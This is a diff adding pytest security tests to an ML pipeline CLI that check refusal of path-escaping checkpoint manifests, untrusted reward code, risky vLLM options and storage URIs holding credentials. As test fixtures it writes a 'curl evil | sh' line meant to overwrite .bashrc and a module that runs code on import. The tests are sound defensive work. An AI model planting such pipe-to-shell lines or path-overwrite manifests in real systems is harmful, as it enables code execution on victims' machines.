@@ -5,10 +5,12 @@ import re
 import shutil
 import subprocess
 import sys
+from pathlib import Path
 
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+import yaml
 
 from pipeline.cli import main, parse
 
@@ -223,3 +225,83 @@ def test_overrides_may_follow_options(capsys):
     assert stop.value.code == 2 and "unrecognized arguments: --bogus" in capsys.readouterr().err
     with pytest.raises(SystemExit):
         parse(["validate-cluster", "cluster.yaml", "x=1"])  # a command without overrides
+
+
+def test_a_checkpoint_manifest_cannot_write_outside_the_checkpoint(capsys, tmp_path):
+    """A run directory from someone else: its newest checkpoint's manifest lists an absolute path (and holds the file
+    where that name leads), which a download trusting the manifest would write over. One line, nothing written."""
+    from pipeline import storage as store
+
+    victim = tmp_path / "home" / ".bashrc"
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "config.yaml").write_text("{}\n")  # the defaults: nothing that needs --trust-run-config
+    step = run / store.checkpoint_dir(1)
+    (step / str(victim).lstrip("/")).parent.mkdir(parents=True)
+    (step / str(victim).lstrip("/")).write_text("curl evil | sh\n")
+    entry = {"size": 15, "sha256": store.sha256_bytes(b"curl evil | sh\n")}
+    (step / store.MANIFEST).write_text(json.dumps({"step": 1, "files": {str(victim): entry}}))
+    for command in (["eval", str(run)], ["eval", f"file://{run}"], ["eval", str(run), "--trust-run-config"]):
+        err = run_cli(command, capsys)
+        assert f"MANIFEST.json lists {str(victim)!r}, which is not a file inside the checkpoint" in err
+        assert not victim.exists()
+
+
+def test_a_run_configs_python_reward_is_not_imported_before_it_is_trusted(capsys, tmp_path):
+    """Validating a python reward component imports its module: a run directory's config.yaml is checked for code
+    before that, so the module's top-level code never runs without --trust-run-config."""
+    marker = tmp_path / "ran"
+    module = tmp_path / "evil.py"
+    module.write_text(f"open({str(marker)!r}, 'w').close()\n\ndef reward(completions, **_):\n    return [0.0] * len(completions)\n")
+    run = tmp_path / "run"
+    run.mkdir()
+    (run / "config.yaml").write_text(yaml.safe_dump({"reward": {"weights": {"mine": 1.0},
+                                                                "components": {"mine": {"type": "python", "function": f"{module}:reward"}}}}))
+    for command in (["eval", str(run)], ["train", "--resume", str(run)]):
+        err = run_cli(command, capsys)
+        assert f"reward.components.mine (python function {module}:reward)" in err and "pass --trust-run-config" in err
+        assert not marker.exists()
+    # trusted, the pre-flight import runs it (and the command goes on: this run has no checkpoint)
+    assert "is a run without a published checkpoint" in run_cli(["eval", str(run), "--trust-run-config"], capsys)
+    assert marker.exists()
+
+
+def test_vllm_engine_kwargs_that_may_load_code_need_trust(capsys, tmp_path):
+    run = tmp_path / "run"
+    run.mkdir()
+    kwargs = {"trust_remote_code": True, "worker_extension_cls": "mine.Extension", "block_size": 32}
+    (run / "config.yaml").write_text(yaml.safe_dump({"rollout": {"vllm": {"engine_kwargs": kwargs}}}))
+    err = run_cli(["eval", str(run)], capsys)
+    assert "enables rollout.vllm.engine_kwargs.trust_remote_code, rollout.vllm.engine_kwargs.worker_extension_cls:" in err
+
+
+SECRET = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYhunter2"  # with a '/', as AWS secret keys may have
+
+
+@pytest.mark.parametrize("command", [
+    ["train", f"storage.uri=s3://AKIAEXAMPLE:{SECRET}@bucket/runs/x?region=us-east-1"],
+    ["train", "storage.uri=s3://AKIAEXAMPLE:hunter2@bucket/runs/x"],
+    ["train", "--resume", f"s3://AKIAEXAMPLE:{SECRET}@bucket/runs/x"],
+    ["eval", "s3://AKIAEXAMPLE:hunter2@bucket/runs/x"],
+    ["report", "gs://someone:hunter2@bucket/runs/x"],
+    ["tune", "--resume", "s3://AKIAEXAMPLE:hunter2@bucket/experiments/x", "--trust-run-config"],
+])
+def test_credentials_in_a_storage_uri_are_refused_without_echoing_them(capsys, tmp_path, monkeypatch, command):
+    """pyarrow takes s3://KEY:hunter2@bucket/...; tokenforge would print the URI in errors and the --resume hint and
+    store it in config.yaml, W&B, MLflow and the Tune spec. Refused before anything is written, the secret never shown."""
+    monkeypatch.chdir(tmp_path)
+    err = run_cli([*command, f"output_dir={tmp_path / 'out'}"] if command[0] == "train" and "--resume" not in command else command, capsys)
+    assert "holds credentials (user:secret@)" in err and "AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY" in err
+    assert "GOOGLE_APPLICATION_CREDENTIALS" in err and "***@bucket/" in err
+    assert "hunter2" not in err and "hunter2" not in capsys.readouterr().out
+    written = [p for p in tmp_path.rglob("*") if p.is_file()]
+    assert not any("hunter2" in p.read_text(errors="ignore") for p in written), written
+
+
+def test_credentials_in_a_tune_specs_storage_path_are_refused(capsys, tmp_path):
+    spec = tmp_path / "spec.yaml"
+    spec.write_text(yaml.safe_dump({"search": {"learner.lr": {"strategy": "choice", "values": [1e-3]}},
+                                    "tune": {"storage_path": "s3://AKIAEXAMPLE:hunter2@bucket/tune"}}))
+    err = run_cli(["tune", str(spec)], capsys)
+    assert err.startswith("tokenforge: error: tune spec key 'tune.storage_path': the URI 's3://***@bucket/tune' holds credentials")
+    assert "hunter2" not in err
